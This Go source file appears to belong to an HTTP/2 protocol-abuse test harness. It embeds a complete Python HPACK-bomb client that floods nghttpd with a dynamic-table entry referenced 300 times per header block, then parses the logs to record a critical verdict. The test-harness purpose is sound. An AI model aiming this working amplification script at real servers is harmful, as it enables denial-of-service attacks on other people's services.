package main

import (
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"strconv"
	"strings"
)

// An HPACK bomb by a real client library against a real server:
// python-h2 over h2c to nghttpd 1.52 makes 2 ordinary GETs, then writes
// (raw HPACK in hyperframe HEADERS frames: python-h2's encoder keeps its
// own dynamic table and would not write the references) a request that
// inserts a 3,938-byte x-bomb entry into the server's dynamic table and
// 8 requests whose blocks repeat the indexed field of that entry 300
// times: 326-byte blocks that decode to 1,181,400 bytes of x-bomb fields
// each, the shape of the synthetic attacks/hpack-bomb. nghttp2 1.52
// decodes every list in full (nghttpd -v logs all 300 x-bomb fields of
// each) and nghttpd then resets each bomb's stream with
// RST_STREAM(INTERNAL_ERROR); it sends no GOAWAY and keeps the
// connection until the client closes it.

// pythonHPACKBombClient is the client of nghttpd-python-hpack-bomb: over
// h2c with prior knowledge it makes PRE GETs of PATH with python-h2, then
// writes an insertion of an x-bomb field of VLEN bytes and N bombs of
// REFS references to it, one HEADERS a write, reading what the server
// answers (50 ms after each) with hyperframe. It prints one JSON object
// per event.
const pythonHPACKBombClient = `import json, socket, sys, time
import h2, h2.config, h2.connection, h2.events, h2.exceptions
import hyperframe.frame
host, port, pre, n, refs, vlen, path = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6]), sys.argv[7]
t0 = time.monotonic()
def log(**kw):
    kw["t"] = round(time.monotonic() - t0, 6)
    print(json.dumps(kw), flush=True)
sock = socket.create_connection((host, port))
log(event="Connected", local_port=sock.getsockname()[1], h2=h2.__version__)
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
got = {}
done = set()
reset = {}
def pump(timeout, until=None):
    sock.settimeout(timeout)
    while until is None or not until():
        try:
            data = sock.recv(65536)
        except (socket.timeout, OSError):
            return False
        if not data:
            log(event="EOF")
            return False
        try:
            evs = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            log(event="ProtocolError", error=str(e))
            return False
        for ev in evs:
            name = type(ev).__name__
            got[name] = got.get(name, 0) + 1
            if isinstance(ev, h2.events.ResponseReceived):
                log(event=name, stream=ev.stream_id, status=dict(ev.headers).get(":status"))
            if isinstance(ev, h2.events.DataReceived):
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            if isinstance(ev, h2.events.StreamEnded):
                done.add(ev.stream_id)
            if isinstance(ev, h2.events.StreamReset):
                reset[ev.stream_id] = str(ev.error_code)
                done.add(ev.stream_id)
                log(event=name, stream=ev.stream_id, code=ev.error_code.name if hasattr(ev.error_code, "name") else str(ev.error_code))
            if isinstance(ev, h2.events.ConnectionTerminated):
                log(event=name, code=ev.error_code.name if hasattr(ev.error_code, "name") else str(ev.error_code), last_stream=ev.last_stream_id)
                return False
        d = conn.data_to_send()
        if d:
            sock.sendall(d)
    return True
hdrs = lambda method, p: [(":method", method), (":scheme", "http"), (":authority", "%s:%d" % (host, port)), (":path", p)]
sids = []
for _ in range(pre):
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, hdrs("GET", path), end_stream=True)
    sids.append(sid)
sock.sendall(conn.data_to_send())
if not pump(2, lambda: all(s in done for s in sids)):
    log(event="PreFailed")
log(event="Requests", streams=sids, ended=sorted(done))
def hpack_int(v, prefix, first):
    m = (1 << prefix) - 1
    if v < m:
        return bytes([first | v])
    out = [first | m]
    v -= m
    while v >= 128:
        out.append(v % 128 + 128)
        v //= 128
    out.append(v)
    return bytes(out)
# From here on the client writes raw HPACK and frames (hyperframe) and
# reads the server's frames itself: python-h2 keeps no dynamic table
# entry it did not insert, and its stream state would refuse the
# server's answers to streams it never opened. Every field is a static
# table reference or a literal without indexing, except the one x-bomb
# insertion (literal with incremental indexing): it becomes dynamic
# index 62, and each bomb block repeats 0xbe (indexed field 62) REFS times.
def lit(idx, value):
    return hpack_int(idx, 4, 0) + hpack_int(len(value), 7, 0) + value.encode()
def head():
    return b"\x82\x86" + lit(1, "%s:%d" % (host, port)) + lit(4, path)
name, value = "x-bomb", "b" * vlen
entry = len(name) + len(value) + 32
dec = conn.decoder
buf = b""
sent = {}
def read(timeout):
    global buf
    sock.settimeout(timeout)
    try:
        data = sock.recv(65536)
    except socket.timeout:
        return True
    except OSError as e:
        log(event="ReadFailed", error=str(e))
        return False
    if not data:
        log(event="EOF")
        return False
    buf += data
    while len(buf) >= 9:
        f, length = hyperframe.frame.Frame.parse_frame_header(memoryview(buf[:9]))
        if len(buf) < 9 + length:
            break
        f.parse_body(memoryview(buf[9:9 + length]))
        buf = buf[9 + length:]
        name = type(f).__name__
        got[name] = got.get(name, 0) + 1
        if isinstance(f, hyperframe.frame.HeadersFrame):
            h = dict((k.decode() if isinstance(k, bytes) else k, v.decode() if isinstance(v, bytes) else v) for k, v in dec.decode(f.data))
            log(event="ResponseHeaders", stream=f.stream_id, status=h.get(":status"))
        elif isinstance(f, hyperframe.frame.RstStreamFrame):
            log(event="RstStream", stream=f.stream_id, code=f.error_code)
        elif isinstance(f, hyperframe.frame.GoAwayFrame):
            log(event="GoAway", code=f.error_code, last_stream=f.last_stream_id, debug=f.additional_data.decode("latin-1"))
        elif isinstance(f, hyperframe.frame.DataFrame) and "END_STREAM" in f.flags:
            log(event="DataEnded", stream=f.stream_id)
    return True
closed = False
written = 0
sid = max(sids) + 2
for i in range(n + 1):
    if i == 0:
        block = head() + b"\x40" + hpack_int(len(name), 7, 0) + name.encode() + hpack_int(len(value), 7, 0) + value.encode()
        kind, decoded = "insert", entry
    else:
        block = head() + bytes([0x80 | 62]) * refs
        kind, decoded = "bomb", entry * refs
    frame = hyperframe.frame.HeadersFrame(sid, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize()
    try:
        sock.sendall(frame)
    except OSError as e:
        log(event="WriteFailed", error=str(e), written=written)
        closed = True
        break
    written += 1
    log(event="HeadersSent", stream=sid, kind=kind, block=len(block), entry_refs=refs if kind == "bomb" else 0, decoded_at_least=decoded)
    sid += 2
    if not read(0.05):
        closed = True
        break
if not closed and not read(0.3):
    closed = True
log(event="Bombed", headers=written, bombs=max(written - 1, 0), closed=closed, entry=entry, refs=refs)
log(event="Received", frames=got)
try:
    sock.shutdown(socket.SHUT_WR)
    while read(0.5):
        pass
except OSError:
    pass
sock.close()
log(event="Closed")
`

// nghttpdBombField matches nghttpd -v's line for one decoded x-bomb field.
var nghttpdBombField = regexp.MustCompile(`^(\[id=\d+\] \[ *[0-9.]+\] recv \(stream_id=(\d+)\) x-bomb: )(b+)$`)

func init() {
	addStackScenarios(&scenario{
		name: "nghttpd-python-hpack-bomb",
		description: "An HPACK bomb by a real client library against a real server: python-h2 over h2c to nghttpd 1.52 makes 2 GETs, " +
			"then writes (raw HPACK in hyperframe HEADERS frames) a GET that inserts a 3,938-byte x-bomb field into the server's " +
			"dynamic table (literal with incremental indexing) and 8 GETs whose 326-byte header blocks repeat the indexed field of " +
			"that entry (dynamic index 62) 300 times, each decoding to over 1 MiB; nghttpd's -v log records the fields it decoded " +
			"and what it answered, and the client's events what it read.",
		findings: []string{"protocol_abuse"},
		commit:   true,
		tools:    []string{"nghttpd", "python3-h2"},
		stack:    runNghttpdHPACKBomb,
	})
}

func runNghttpdHPACKBomb(ctx context.Context, r *stackRun) error {
	const (
		size  = 1000
		pre   = 2
		bombs = 8
		refs  = 300
		vlen  = 3900 // x-bomb's value: an entry of 6+3900+32 = 3,938 bytes, under the 4,096-byte table
	)
	if err := r.writeWWW(size); err != nil {
		return err
	}
	srv, err := r.startNghttpd(ctx)
	if err != nil {
		return err
	}
	out, err := r.pythonH2(ctx, "bomb.py", pythonHPACKBombClient, "client events, one JSON object a line",
		strconv.Itoa(pre), strconv.Itoa(bombs), strconv.Itoa(refs), strconv.Itoa(vlen), "/"+strconv.Itoa(size))
	if err != nil {
		return err
	}
	r.stopAll(sigTerm)
	// nghttpd -v logs every decoded field: 300 lines of a 3,900-byte
	// value a bomb. The report keeps one line a run, the value and the
	// run counted.
	fields := map[string]int{}
	var kept []string
	prev, run := "", 0
	flush := func() {
		if run > 1 {
			kept = append(kept, fmt.Sprintf("    (the line above %d times in all)", run))
		}
		prev, run = "", 0
	}
	for _, l := range lines(r.output(srv)) {
		m := nghttpdBombField.FindStringSubmatch(l)
		if m == nil {
			flush()
			kept = append(kept, l)
			continue
		}
		fields[m[2]]++
		if s := m[1] + fmt.Sprintf("b x %d", len(m[3])); s != prev {
			flush()
			kept = append(kept, s)
			prev = s
		}
		run++
	}
	flush()
	frames := r.nghttpdFrames([]byte(strings.Join(kept, "\n")))
	written, bombed, closed, responses, rsts, goaways := 0, 0, false, 0, 0, 0
	goaway := ""
	for _, l := range lines(out) {
		var ev struct {
			Event     string `json:"event"`
			LocalPort int    `json:"local_port"`
			Headers   int    `json:"headers"`
			Bombs     int    `json:"bombs"`
			Closed    bool   `json:"closed"`
			Status    string `json:"status"`
			Code      int    `json:"code"`
		}
		if err := json.Unmarshal([]byte(l), &ev); err != nil {
			return fmt.Errorf("python-h2 client line %q: %v", l, err)
		}
		switch ev.Event {
		case "Connected":
			r.newConn(ev.LocalPort, "bomb")
		case "Bombed":
			written, bombed, closed = ev.Headers, ev.Bombs, ev.Closed
		case "ResponseReceived", "ResponseHeaders":
			responses++
		case "RstStream":
			rsts++
		case "GoAway":
			goaways++
			goaway = strconv.Itoa(ev.Code)
		}
	}
	if responses < pre {
		return fmt.Errorf("the client got %d responses to its %d GETs before the bomb", responses, pre)
	}
	full := 0 // bomb streams whose 300 references nghttpd decoded in full
	for _, n := range fields {
		if n >= refs {
			full++
		}
	}
	r.fact("client_headers_written", written)
	r.fact("client_bombs_written", bombed)
	r.fact("client_responses", responses)
	r.fact("client_rst_stream_received", rsts)
	r.fact("client_goaway_received", goaways)
	r.fact("server_bomb_lists_decoded_in_full", full)
	for _, k := range []string{"recv HEADERS", "send HEADERS", "send DATA", "send RST_STREAM", "send RST_STREAM INTERNAL_ERROR", "send GOAWAY"} {
		r.fact("server_"+strings.ReplaceAll(strings.ToLower(k), " ", "_"), frames[k])
	}
	if bombed < 3 {
		return fmt.Errorf("the client wrote %d bombs before its write failed; want 3 or more", bombed)
	}
	how := fmt.Sprintf("nghttpd -v decoded all %d x-bomb fields of %d lists", refs, full)
	if n := frames["send RST_STREAM"]; n > 0 {
		how += fmt.Sprintf(" and sent %d RST_STREAM (%d INTERNAL_ERROR)", n, frames["send RST_STREAM INTERNAL_ERROR"])
	}
	if frames["send GOAWAY"] > 0 {
		how += ", send GOAWAY " + goaway
	}
	if closed {
		how += "; the connection then closed under the client"
	}
	r.verdictCause("protocol_abuse", "critical", "hpack_bomb",
		"hpack_bomb: header lists decoding far past the 1 MiB limit from blocks of a few hundred bytes",
		fmt.Sprintf("python-h2 wrote %d bombs (%d references to a %d-byte entry, %d bytes decoded each) after %d GETs and an insertion; %s",
			bombed, refs, 6+vlen+32, refs*(6+vlen+32), pre, how))
	return nil
}
